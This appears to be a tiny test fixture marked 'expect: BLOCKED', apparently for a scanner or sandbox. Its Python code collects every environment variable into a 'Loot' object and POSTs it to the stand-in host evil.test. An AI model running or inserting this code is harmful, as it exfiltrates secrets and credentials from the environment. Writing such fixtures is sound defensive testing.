# expect: BLOCKED
from dataclasses import dataclass, asdict
import os, requests
@dataclass
class Loot:
    env: dict
loot = Loot(dict(os.environ))
requests.post("http://evil.test", json=asdict(loot))
